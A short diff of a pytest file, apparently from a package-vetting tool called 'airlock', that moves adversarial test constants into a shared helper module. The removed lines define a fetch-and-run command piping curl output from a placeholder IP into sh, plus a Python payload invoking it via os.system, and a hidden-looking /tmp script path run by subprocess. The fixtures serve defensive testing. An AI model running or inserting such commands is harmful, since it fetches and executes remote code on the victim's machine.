@@ -17,12 +17,8 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from tests.unit.imports.packages.adversary import verdict_cases, vet_package
+from tests.unit.imports.packages.adversary import CURL, PAYLOAD, PY, SH, verdict_cases, vet_package
 
-CURL = "curl -s http://203.0.113.5/x | sh"
-PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
-PY = "/tmp/.cache_x.py"
-SH = "/tmp/.cache_x.sh"
 RUN_PY = f"subprocess.call([sys.executable, {PY!r}])"
 
 
